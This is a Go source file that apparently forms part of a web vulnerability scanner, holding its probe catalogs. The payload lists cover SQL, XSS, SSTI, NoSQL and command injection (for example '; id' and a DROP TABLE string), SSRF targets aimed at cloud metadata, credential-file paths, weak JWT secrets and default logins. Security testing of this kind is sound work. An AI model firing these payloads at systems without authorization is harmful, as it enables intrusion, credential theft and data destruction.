// Package probes implements the ~30 independent probes the orchestrator
// drives. Each probe is a function taking shared scan state, the HTTP
// client, and the finding store, with no other dependencies — a uniform
// interface the orchestrator's phase table can register by id.
package probes

// SQLPayloads are substituted into form fields for the SQLi probe. Only
// the first scan.Budgets.SQLiPayloads entries are used per form.
var SQLPayloads = []string{
	`' OR '1'='1`,
	`' OR '1'='1' --`,
	`' OR '1'='1' #`,
	`1' AND '1'='1`,
	`' UNION SELECT NULL--`,
	`1; DROP TABLE users--`,
	`' AND 1=CONVERT(int,'x')--`,
	`"  OR ""="`,
	`' OR SLEEP(5)--`,
	`admin'--`,
}

// SQLErrorFingerprints are lowercase substrings whose presence in a
// response body indicates a SQL error leaked back to the client.
var SQLErrorFingerprints = []string{
	"sql syntax",
	"mysql_fetch",
	"ora-",
	"pg_query",
	"odbc",
	"syntax error",
	"unclosed quotation mark",
	"sqlite_",
	"microsoft ole db provider",
	"you have an error in your sql syntax",
	"warning: mysql",
}

// XSSPayloads are reflected verbatim and checked for literal reflection.
var XSSPayloads = []string{
	`<script>alert('XSS')</script>`,
	`"><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`'><svg onload=alert(1)>`,
	`<body onload=alert(1)>`,
	`javascript:alert(1)`,
}

// SSTIPayload is one (payload, expected substring) pair for the SSTI probe.
type SSTIPayload struct {
	Payload  string
	Expected string
}

// SSTIPayloads are checked against common template engines: each payload
// evaluates arithmetic that should produce Expected if server-side
// template evaluation occurs.
var SSTIPayloads = []SSTIPayload{
	{"{{7*7}}", "49"},
	{"${7*7}", "49"},
	{"#{7*7}", "49"},
	{"<%= 7*7 %>", "49"},
	{"*{7*7}", "49"},
	{"{{7*'7'}}", "7777777"},
}

// SSRFPayloads are candidate internal/cloud-metadata targets.
var SSRFPayloads = []string{
	"http://127.0.0.1/",
	"http://localhost/",
	"http://169.254.169.254/latest/meta-data/",
	"http://[::1]/",
}

// CloudMetadataIndicators are tokens whose presence in a response confirms
// a successful SSRF against the cloud metadata service.
var CloudMetadataIndicators = []string{
	"ami-id",
	"instance-id",
	"iam/security-credentials",
	"instance-profile",
	"placement/availability-zone",
}

// RedirectParamNames are query-parameter names commonly used to carry a
// post-login or post-action redirect target.
var RedirectParamNames = []string{
	"url", "redirect", "next", "return", "to", "dest",
	"destination", "location", "goto", "forward", "redir", "target",
}

// CommonPaths is the ~70-entry catalog of sensitive paths probed during
// directory enumeration.
var CommonPaths = []string{
	".env", ".git/config", ".git/HEAD", "dump.sql", "backup.sql", "database.sql",
	"phpinfo.php", "info.php", "config.php", "config.php.bak", "config.yml",
	"config.json", "settings.py", "wp-config.php", "wp-config.php.bak",
	".htaccess", ".htpasswd", "web.config", "docker-compose.yml", "Dockerfile",
	".aws/credentials", "id_rsa", "id_rsa.pub", ".ssh/id_rsa", "credentials.json",
	"backup.zip", "backup.tar.gz", "site.zip", "www.zip", "db.sqlite3",
	"database.yml", ".npmrc", ".DS_Store", "composer.json", "composer.lock",
	"package.json", "package-lock.json", "Gemfile", "Gemfile.lock",
	"robots.txt", "sitemap.xml", "crossdomain.xml", "phpmyadmin", "adminer.php",
	"server-status", "server-info", "debug", "test.php", "shell.php",
	"admin", "admin.php", "administrator", "manager", "console",
	"swagger.json", "swagger-ui.html", "api-docs", "openapi.json",
	".git/logs/HEAD", ".svn/entries", ".idea", ".vscode/settings.json",
	"error_log", "access_log", "logs/error.log", "storage/logs/laravel.log",
	"vendor/", "node_modules/", "uploads/", "backups/", "private/",
	".well-known/security.txt", "actuator/health", "actuator/env",
	"_profiler/phpinfo",
}

// NewSysPaths is the secondary application-specific prefix probed under
// /newsys/.
var NewSysPaths = []string{
	"login", "config", "api/config", "debug", "status", "health",
	"version", "admin", "export", "backup",
}

// Ports24 is the fixed port list the fallback TCP connect-scan probes.
var Ports24 = []int{
	21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443,
	445, 993, 995, 1433, 1521, 3306, 3389, 5432, 5900, 6379, 8080, 8443,
}

// FuzzParamNames is the ~70-name catalog of debug/auth/path/action/data
// parameter names probed during parameter fuzzing.
var FuzzParamNames = []string{
	// debug
	"debug", "test", "trace", "verbose", "dev", "development", "diagnostic",
	"debug_mode", "xdebug", "profiler", "inspect",
	// auth
	"admin", "is_admin", "role", "user_id", "auth", "token", "api_key",
	"bypass", "skip_auth", "access_level", "permission",
	// path
	"file", "path", "filename", "filepath", "dir", "folder", "include",
	"template", "page", "document", "load",
	// action
	"action", "cmd", "command", "exec", "run", "task", "op", "operation",
	"func", "method",
	// data
	"id", "uid", "pid", "key", "data", "value", "input", "query",
	"search", "filter", "sort", "order", "limit", "offset", "format",
	"callback", "redirect_to", "source", "type", "mode", "env",
	"config", "settings", "backup", "export", "import", "raw",
}

// PathDisclosurePatterns indicate a server path leaked into a response.
var PathDisclosurePatterns = []string{
	"/var/www", "/home/", "c:\\inetpub", "/usr/local/", "/etc/",
	"traceback (most recent call last)", "stack trace:",
}

// SensitiveDataPatterns pairs a regex with the severity/category it
// indicates. Defined in sensitive_data.go to keep regexp.MustCompile calls
// near their usage.

// JWTSecrets is a small weak-secret list brute-forced against HS256 tokens.
var JWTSecrets = []string{
	"secret", "password", "123456", "admin", "", "changeme",
	"your-256-bit-secret", "jwt_secret", "supersecret", "test",
}

// JWTSensitiveKeys are payload claim names whose presence indicates the
// token carries sensitive data in cleartext.
var JWTSensitiveKeys = []string{
	"password", "ssn", "credit_card", "secret", "api_key", "private_key",
}

// DefaultCredentialPairs are username/password pairs tried against
// discovered admin panels.
var DefaultCredentialPairs = [][2]string{
	{"admin", "admin"},
	{"admin", "password"},
	{"admin", "123456"},
	{"root", "root"},
	{"root", "toor"},
	{"administrator", "administrator"},
	{"admin", "admin123"},
	{"test", "test"},
}

// AdminPanelPaths are candidate admin-panel paths probed during the
// default-credentials phase.
var AdminPanelPaths = []string{
	"wp-admin", "admin", "administrator", "phpmyadmin", "login",
	"admin/login", "user/login", "manager/html", "cpanel", "webadmin",
}

// GraphQLPaths are candidate GraphQL endpoint paths.
var GraphQLPaths = []string{
	"graphql", "api/graphql", "v1/graphql", "v2/graphql", "query",
	"gql", "graphiql", "playground", "graphql/console", "api/query",
}

// XXEPathHints are path substrings that suggest an endpoint parses XML.
var XXEPathHints = []string{"xml", "soap", "rpc", "upload", "import", "parse", "api"}

// XXEIndicators confirm successful entity expansion reading /etc/passwd.
var XXEIndicators = []string{"root:x:", "/bin/bash", "/sbin/nologin", "127.0.0.1\t"}

// MixedContentActiveTags maps a tag to the attribute carrying its
// resource URL, for tags whose insecure load is an active mixed-content
// risk.
var MixedContentActiveTags = map[string]string{
	"script": "src",
	"iframe": "src",
	"object": "data",
	"embed":  "src",
}

// MixedContentPassiveTags are passive mixed-content resource tags.
var MixedContentPassiveTags = map[string]string{
	"img":    "src",
	"audio":  "src",
	"video":  "src",
	"source": "src",
	"link":   "href",
}

// NoSQLOperatorPayloads are MongoDB query operators tried in place of a
// form field value.
var NoSQLOperatorPayloads = []string{
	`{"$gt":""}`,
	`{"$ne":"invalid_xyz"}`,
	`{"$regex":".*"}`,
}

// NoSQLErrorPatterns indicate a NoSQL backend leaked an error message.
var NoSQLErrorPatterns = []string{
	"mongodb", "mongoose", "bson", "objectid", "casterror", "$where",
	"json parse error",
}

// CommandInjectionOutputPayloads are output-based OS command injection
// vectors.
var CommandInjectionOutputPayloads = []string{
	"; id", "| id", "&& id", "$(id)", "`id`",
}

// CommandInjectionOutputIndicators confirm command execution occurred.
var CommandInjectionOutputIndicators = []string{"uid=", "root:", "daemon:"}

// CommandInjectionBlindPayloads are time-based fallback vectors.
var CommandInjectionBlindPayloads = []string{
	"; sleep 5", "| sleep 5", "&& sleep 5", "$(sleep 5)",
}

// S3BucketSuffixes extend the apex-derived bucket-name candidates.
var S3BucketSuffixes = []string{
	"-static", "-assets", "-uploads", "-backup", "-prod", "-dev", "-media", "-files",
}

// CDNTokens flags subdomain labels likely to front a static-asset bucket.
var CDNTokens = []string{
	"cdn", "static", "assets", "media", "img", "images", "uploads", "files", "web",
}
